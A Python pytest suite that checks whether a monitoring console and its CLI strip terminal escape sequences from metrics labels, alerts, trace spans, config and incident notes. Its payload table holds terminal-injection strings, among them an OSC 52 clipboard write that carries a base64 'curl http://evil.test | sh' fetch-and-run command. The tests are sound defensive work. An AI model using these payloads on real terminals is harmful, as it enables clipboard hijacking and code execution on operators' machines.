"""Attack suite: terminal escapes from every source never reach the operator's terminal.

Seeded payloads (OSC 52 clipboard write, OSC 0 title, CSI 2J clear, 8-bit C1 CSI, a DCS
string, a lone ESC) go in through each way outside text enters — a Prometheus label, an
Alertmanager alert, an OTLP span, a note, a title, a config string, ``$USER`` — and out
through the console and the CLI. Loopback only; every server started here is stopped here.
"""

from __future__ import annotations

import base64
import json
import os
import pty
import random
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from callboard_alertmanager import AlertmanagerPlugin
from callboard_prometheus import PrometheusPlugin
from rich.segment import Segment
from textual.geometry import Region
from textual.strip import Strip
from textual.widget import Widget
from textual.widgets import Static
from tui_helpers import FakeFleetPlugin, fixed_clock

from console.commands.jsonout import dumps
from console.commands.output import SafeStream, safe_terminal_text
from console.config import load_config
from console.core import otlp, traces
from console.core.model import Deploy, Function, Trace
from console.core.sanitize import clean_line, clean_obj, clean_result, clean_text
from console.engine.fleet.refresh import Backend, Fleet
from console.engine.otlp.spanstore import SpanStore
from console.engine.store.events import current_actor
from console.engine.store.sqlite import Store
from console.plugin_api import PluginContext
from console.tui.app import CallboardApp
from console.tui.safe_render import install
from console.tui.widgets.fleet_table import FleetTable
from tests.loopback import Quiet, serve

CLIP = "\x1b]52;c;" + base64.b64encode(b"curl http://evil.test | sh").decode() + "\x1b\\"
PAYLOADS = {
    "osc52-clipboard": CLIP,
    "osc0-title": "\x1b]0;you have been pwned\x07",
    "csi-2J-clear": "\x1b[2J\x1b[H",
    "c1-csi": "\x9b2J\x9b31m",
    "dcs-string": "\x1bPq#0;2;0;0;0#0~~\x1b\\",
    "lone-esc": "\x1b",
}
#: Every byte a terminal may act on; tab and newline are checked separately where they matter.
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
SGR = re.compile(r"\x1b\[[0-9;]*m")


def hostile(base: str, seed: int) -> str:
    """``base`` with every payload spliced in at seeded places."""
    rng = random.Random(seed)
    # A lone ESC takes the next character with it (as a terminal would): it goes last.
    payloads = [p for p in PAYLOADS.values() if p != "\x1b"]
    rng.shuffle(payloads)
    cuts = sorted(rng.randrange(len(base) + 1) for _ in payloads)
    pieces = [base[a:b] for a, b in zip([0, *cuts], [*cuts, len(base)], strict=True)]
    return "".join(p + q for p, q in zip(pieces, [*payloads, "\x1b"], strict=True))


def assert_inert(text: str, where: str = "") -> None:
    assert "\x1b" not in text, f"ESC in {where}: {text!r}"
    assert CONTROL.search(text) is None, f"control byte in {where}: {text!r}"


# -- the sanitiser itself ------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_each_payload_is_removed_whole_and_text_around_it_kept(name: str) -> None:
    assert clean_line("pay" + PAYLOADS[name]) == "pay"
    assert clean_line("pay" + PAYLOADS[name] + "\nment") == "pay ment"
    assert clean_text("line 1\n" + PAYLOADS[name] + "\tline 2") == "line 1\n\tline 2"


def test_esc_and_the_character_after_it_go_together_as_a_terminal_reads_them() -> None:
    assert clean_line("a\x1bcb") == "ab"  # ESC c (reset) is one two-character sequence
    assert clean_line("a\x1b(Bb") == "ab"  # ESC ( B (charset) too


def test_a_single_line_field_turns_tab_and_newline_into_spaces() -> None:
    assert clean_line("a\tb\nc\r\nd") == "a b c d"
    assert clean_text("a\r\nb\rc") == "a\nb\nc"


def test_seeded_fuzz_never_leaves_a_control_byte_and_is_idempotent() -> None:
    rng = random.Random(1137)
    alphabet = "ab ;[]\\P^_X0123\x07\x1b\x9b\x9c\x9d\x90\x00\x7f\t\n\r€"
    for _ in range(3000):
        s = "".join(rng.choice(alphabet) for _ in range(rng.randrange(40)))
        line, text = clean_line(s), clean_text(s)
        assert_inert(line, repr(s))
        assert_inert(text.replace("\n", "").replace("\t", ""), repr(s))
        assert clean_line(line) == line and clean_text(text) == text


def test_clean_data_comes_back_as_the_very_same_objects() -> None:
    fns = FakeFleetPlugin(50).fns
    assert clean_result(fns) is fns
    nested = {"a": [("b", 1.5)], "c": None}
    assert clean_obj(nested) is nested


# -- through each source into the model ----------------------------------------------------


def _prom_row(service: str) -> dict[str, Any]:
    return {
        "metric": {"cb_service": service, "cb_route": "/pay", "cb_method": "POST",
                   "cb_code": "200", "cb_window": "5m"},
        "value": [1.7e9, "2"],
    }  # fmt: skip


def _prom_handler(service: str) -> Any:
    def handler(request: httpx.Request) -> httpx.Response:
        body = {"status": "success", "data": {"resultType": "vector",
                "result": [_prom_row(service)]}}  # fmt: skip
        return httpx.Response(200, json=body)

    return handler


async def test_a_prometheus_label_value_reaches_the_snapshot_clean() -> None:
    http = httpx.AsyncClient(transport=httpx.MockTransport(_prom_handler(hostile("checkout", 1))))
    ctx = PluginContext(http=http, secret=lambda n: "", clock=fixed_clock)
    prom = PrometheusPlugin("prom", {"url": "http://prom.test"}, ctx)
    fleet = Fleet([Backend("prom", "prometheus", prom)], clock=fixed_clock, attempts=1)
    snap = await fleet.refresh()
    await http.aclose()
    assert snap.functions, snap.backends
    for h in snap.functions:
        assert_inert(h.function.id + h.function.service, "function id")
    assert snap.functions[0].function.service == "checkout"


def _alert(name: str, summary: str) -> dict[str, Any]:
    labels = {"alertname": name, "severity": "page", "service_name": "checkout",
              "http_route": "/pay", "http_request_method": "POST"}  # fmt: skip
    return {
        "labels": labels, "annotations": {"summary": summary}, "receivers": [{"name": "x"}],
        "fingerprint": "abc", "startsAt": "2026-08-24T10:00:00Z",
        "updatedAt": "2026-08-24T10:00:01Z", "endsAt": "2026-08-24T11:00:00Z",
        "generatorURL": "http://prom/graph",
        "status": {"state": "active", "silencedBy": [], "inhibitedBy": []},
    }  # fmt: skip


def _alert_backend(http: httpx.AsyncClient) -> Backend:
    ctx = PluginContext(http=http, secret=lambda n: n, clock=fixed_clock)
    return Backend("am", "alertmanager", AlertmanagerPlugin("am", {"url": "http://am.test"}, ctx))


async def test_an_alertmanager_alert_reaches_the_function_clean() -> None:
    alert = _alert(hostile("HighErrorRate", 2), hostile("too many 5xx", 3))
    http = httpx.AsyncClient(
        transport=httpx.MockTransport(lambda r: httpx.Response(200, json=[alert]))
    )
    fake = Backend("fake", "fake", FakeFleetPlugin(10))
    fleet = Fleet([fake, _alert_backend(http)], clock=fixed_clock, attempts=1)
    snap = await fleet.refresh()
    await http.aclose()
    (got,) = snap.by_id()["checkout:POST /pay"].alerts
    assert (got.name, got.summary) == ("HighErrorRate", "too many 5xx")
    assert_inert(json.dumps(got.labels, ensure_ascii=False), "alert labels")


def _otlp_body(tid: str) -> dict[str, Any]:
    span = {
        "traceId": tid, "spanId": "00f067aa0ba902b7", "name": hostile("GET /pay", 4),
        "kind": 2, "startTimeUnixNano": "1700000000000000000",
        "endTimeUnixNano": "1700000000100000000",
        "status": {"code": 2, "message": hostile("boom\ndetail", 5)},
        "attributes": [{"key": hostile("http.route", 6),
                        "value": {"stringValue": hostile("/pay", 7)}}],
    }  # fmt: skip
    resource = {"attributes": [{"key": "service.name",
                                "value": {"stringValue": hostile("checkout", 8)}}]}  # fmt: skip
    return {"resourceSpans": [{"resource": resource, "scopeSpans": [{"spans": [span]}]}]}


TID = "4bf92f3577b34da6a3ce929d0e0e4736"


def test_an_otlp_span_is_clean_once_normalised() -> None:
    batch = otlp.parse_resource_spans(_otlp_body(TID)["resourceSpans"])
    trace = traces.finalize(Trace(trace_id=TID, spans=tuple(batch.spans)))
    (span,) = trace.spans
    assert (span.name, span.service, span.status_message) == (
        "GET /pay",
        "checkout",
        "boom\ndetail",
    )
    assert span.attributes == {"http.route": "/pay"}


def test_a_config_string_is_clean_when_loaded(tmp_path: Path) -> None:
    cfg = tmp_path / "config.yaml"
    cfg.write_text('environment: {name: "prod-eu\\e]0;pwned\\a\\e[2J"}\n')
    assert load_config(cfg).environment.name == "prod-eu"


def test_the_actor_from_the_environment_is_clean(monkeypatch: pytest.MonkeyPatch) -> None:
    for var in ("LOGNAME", "USER", "LNAME", "USERNAME"):
        monkeypatch.setenv(var, hostile("alice", 9))
    user, _, host = current_actor().partition("@")  # $USER@host (issue #14)
    assert user == "alice" and host and host.isprintable()


def test_json_output_escapes_control_characters() -> None:
    text = dumps({"name": "a" + CLIP + "\x9b"})
    assert "\x1b" not in text and "\x9b" not in text and "\\u001b" in text
    assert json.loads(text)["name"] == "a" + CLIP + "\x9b"  # the data itself, escaped


# -- the CLI's print path ------------------------------------------------------------------


@pytest.mark.parametrize("tty", [False, True])
def test_the_stream_guard_passes_colour_only_on_a_terminal(tty: bool) -> None:
    text = "\x1b[1mbold\x1b[0m " + hostile("x", 10) + "\n end\r\n"
    out = safe_terminal_text(text, keep_sgr=tty)
    assert SGR.sub("", out) == "bold x\n end\r\n"
    assert ("\x1b[1m" in out) is tty


def test_the_guarded_stream_has_no_binary_way_around() -> None:
    import io

    raw = io.BytesIO()
    sink = io.TextIOWrapper(raw, encoding="utf-8", write_through=True)
    stream = SafeStream(sink)
    stream.write(CLIP + "ok\n")
    assert stream.buffer is not None
    stream.buffer.write(("é\x9b2J" + CLIP + "€\n").encode())
    assert raw.getvalue().decode() == "ok\né€\n"
    with pytest.raises(TypeError):
        stream.write(b"\x1b[2J")  # type: ignore[arg-type]


def _cli(
    db: Path, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    cmd = [sys.executable, "-m", "console.cli", "--db", str(db), *args]
    return subprocess.run(
        cmd, capture_output=True, text=True, timeout=120, env={**os.environ, **(env or {})}
    )


def _cli_tty(db: Path, *args: str) -> str:
    """Run the CLI with its stdout on a pseudo-terminal (colour on); return what it wrote."""
    main, child = pty.openpty()
    cmd = [sys.executable, "-m", "console.cli", "--db", str(db), *args]
    env = {**os.environ, "COLUMNS": "200", "TERM": "xterm-256color"}
    proc = subprocess.Popen(cmd, stdout=child, stderr=child, env=env)
    os.close(child)
    chunks: list[bytes] = []
    try:
        while True:  # ends at EOF (EIO on Linux once the child has exited)
            try:
                data = os.read(main, 65536)
            except OSError:
                break
            if not data:
                break
            chunks.append(data)
    finally:
        os.close(main)
        proc.wait(timeout=120)
    return b"".join(chunks).decode("utf-8", "replace")


@pytest.fixture
def incident_db(tmp_path: Path) -> tuple[Path, str]:
    """A store with one incident whose title and note came in hostile through the CLI."""
    db = tmp_path / "cb.db"
    opened = _cli(db, "incident", "open", "--no-refresh", "--title", hostile("pg down", 11),
                  "--function", "checkout:POST /pay", "--json")  # fmt: skip
    assert opened.returncode == 0, opened.stderr
    iid = json.loads(opened.stdout)["id"]
    noted = _cli(db, "incident", "note", iid, hostile("rolled back v2", 12), "--no-refresh")
    assert noted.returncode == 0, noted.stderr
    return db, iid


def test_incident_show_and_list_print_no_escape_from_a_hostile_note(
    incident_db: tuple[Path, str],
) -> None:
    db, iid = incident_db
    for args in (("incident", "show", iid), ("incident", "list")):
        out = _cli(db, *args)
        assert out.returncode == 0, out.stderr
        assert_inert(out.stdout.replace("\n", ""), " ".join(args))
        assert "pg down" in out.stdout
    assert "rolled back v2" in _cli(db, "incident", "show", iid).stdout


def test_incident_show_on_a_terminal_has_colour_at_most_even_for_old_dirty_rows(
    incident_db: tuple[Path, str],
) -> None:
    db, iid = incident_db
    store = Store(db)  # a row written by an older version, before notes were cleaned
    store.execute("UPDATE incidents SET title = ? WHERE id = ?", (hostile("legacy", 13), iid))
    store.close()
    out = _cli_tty(db, "incident", "show", iid)
    assert "legacy" in out
    assert_inert(SGR.sub("", out).replace("\r\n", "").replace("\n", ""), "tty output")


def test_trace_id_prints_a_hostile_otlp_span_without_escapes(tmp_path: Path) -> None:
    db = tmp_path / "cb.db"
    store = Store(db)
    batch = otlp.parse_resource_spans(_otlp_body(TID)["resourceSpans"])
    SpanStore(store).add(batch.spans)  # stored as received: the receiver keeps raw spans
    store.close()
    out = _cli(db, "trace", TID)
    assert out.returncode == 0, out.stderr
    assert "GET /pay" in out.stdout
    assert_inert(out.stdout.replace("\n", ""), "trace ID")


class _PromStub(Quiet):
    service = "checkout"

    def do_GET(self) -> None:
        self._answer()

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("content-length") or 0))
        self._answer()

    def _answer(self) -> None:
        if "/api/v1/status/buildinfo" in self.path:
            body: Any = {"status": "success", "data": {"version": "2.42.0"}}
        else:
            body = {"status": "success", "data": {"resultType": "vector",
                    "result": [_prom_row(self.service)]}}  # fmt: skip
        self.answer(json.dumps(body).encode())


@pytest.fixture
def prom_stub() -> Iterator[str]:
    """A loopback Prometheus whose label values carry every payload."""
    handler = type("Stub", (_PromStub,), {"service": hostile("checkout", 14)})
    with serve(handler) as url:
        yield url


def test_status_prints_hostile_prometheus_labels_without_escapes(
    tmp_path: Path, prom_stub: str
) -> None:
    cfg = tmp_path / "config.yaml"
    cfg.write_text(f"backends:\n  - {{name: prom, plugin: prometheus, url: '{prom_stub}'}}\n")
    db = tmp_path / "cb.db"
    out = _cli(db, "--config", str(cfg), "status", "--all")
    assert "checkout" in out.stdout, out.stdout + out.stderr
    assert_inert((out.stdout + out.stderr).replace("\n", ""), "status")
    colour = _cli_tty(db, "--config", str(cfg), "status", "--all")
    assert "checkout" in colour and SGR.search(colour) is not None  # colour is on
    assert_inert(SGR.sub("", colour).replace("\r\n", "").replace("\n", ""), "status on a tty")


# -- the console ---------------------------------------------------------------------------


class HostilePlugin(FakeFleetPlugin):
    """The fake fleet, with a hostile function id, owner and deploy description."""

    def __init__(self) -> None:
        super().__init__(12)
        first = self.fns[0]
        self.fns[0] = Function(
            id=first.id, service=first.service, operation=first.operation,
            owner=hostile("payments", 15), oncall=hostile("@pay", 16), tier=1,
            labels={hostile("team", 17): hostile("pay", 18)},
        )  # fmt: skip
        self.fns[1] = Function(id=hostile("search:GET /q", 19), service="search",
                               operation=hostile("GET /q", 19))  # fmt: skip

    async def deploys(self, function: Function | None, since: float) -> list[Deploy]:
        return [Deploy("checkout:POST /pay", hostile("v2.14.1", 20), "2026-11-26T20:41:00Z",
                       hostile("alice", 21), hostile("bump pg driver", 22))]  # fmt: skip


def _strip_texts(widget: Widget) -> str:
    region = Region(0, 0, widget.size.width, widget.size.height)
    return "".join(seg.text for strip in widget.render_lines(region) for seg in strip)


async def test_fleet_and_function_screens_show_hostile_data_without_escapes() -> None:
    fleet = Fleet([Backend("fake", "fake", HostilePlugin())], clock=fixed_clock, attempts=1)
    app = CallboardApp(fleet, refresh_interval=3600)
    async with app.run_test(size=(160, 50)) as pilot:
        for _ in range(50):  # bounded: until the first snapshot is on screen
            await pilot.pause()
            if app.snapshot is not None:
                break
        table = app.screen.query_one(FleetTable)
        text = _strip_texts(table)
        assert "search:GET /q" in text
        assert_inert(text, "fleet table")
        table.move_cursor(row=0)
        await pilot.press("enter")
        await pilot.pause()
        shown = "".join(_strip_texts(w) for w in app.screen.query(Static))
        assert "bump pg driver" in shown or "payments" in shown, shown
        assert_inert(shown, "function screen")


async def test_no_widget_can_paint_a_control_byte_even_from_raw_text() -> None:
    """The renderer side: text that never went through the model (a raw Static)."""
    app = CallboardApp(Fleet([Backend("fake", "fake", FakeFleetPlugin(3))], clock=fixed_clock),
                       refresh_interval=3600)  # fmt: skip
    async with app.run_test(size=(120, 30)) as pilot:
        raw = Static("pay" + "".join(PAYLOADS.values()) + "ment", markup=False)
        await app.screen.mount(raw)
        await pilot.pause()
        region = Region(0, 0, raw.size.width, raw.size.height)
        painted = "".join(s.render(app.console) for s in raw.render_lines(region))
    plain = SGR.sub("", painted)
    assert plain.startswith("pay]52;c;") and "pwned" in plain  # shown, inert
    assert_inert(plain, "painted strip")


def test_the_strip_guard_keeps_styles_and_cell_width() -> None:
    install()
    from rich.console import Console
    from rich.style import Style

    strip = Strip([Segment("a" + CLIP + "b", Style(bold=True))])
    out = strip.render(Console(force_terminal=True, color_system="truecolor"))
    assert SGR.sub("", out) == "a" + CLIP.replace("\x1b", "") + "b"  # inert, nothing hidden
    assert "\x1b[1m" in out  # the style still applies
    assert strip.cell_length == len("a" + CLIP + "b") - CLIP.count("\x1b")


async def test_the_timeline_paints_old_hostile_rows_without_escapes(tmp_path: Path) -> None:
    """Rows written before notes were cleaned (straight through the engine) still paint inert."""
    from console.engine.incidents.lifecycle import add_note, open_incident
    from console.tui.screens.timeline import TimelineScreen

    store = Store(tmp_path / "c.db")
    opened = open_incident(store, hostile("Checkout timeouts", 23), ["checkout:POST /pay"], "SEV3")
    add_note(store, opened.id, "NOTE-START " + hostile("rolled back", 24))
    fleet = Fleet([Backend("fake", "fake", FakeFleetPlugin(5))], clock=fixed_clock, attempts=1)
    app = CallboardApp(fleet, refresh_interval=3600, store=store)
    async with app.run_test(size=(140, 45)) as pilot:
        for _ in range(50):  # bounded: until the timeline shows the note
            await app.workers.wait_for_complete()
            await pilot.pause()
            if isinstance(app.screen, TimelineScreen):
                painted = "".join(
                    strip.render(app.console)
                    for w in app.screen.query(Widget)
                    if w.size.area
                    for strip in w.render_lines(Region(0, 0, w.size.width, w.size.height))
                )
                if "NOTE-START" in painted:
                    break
            else:
                await pilot.press("I")
        else:
            raise AssertionError("the timeline never showed the note")
    store.close()
    assert_inert(SGR.sub("", painted), "timeline")
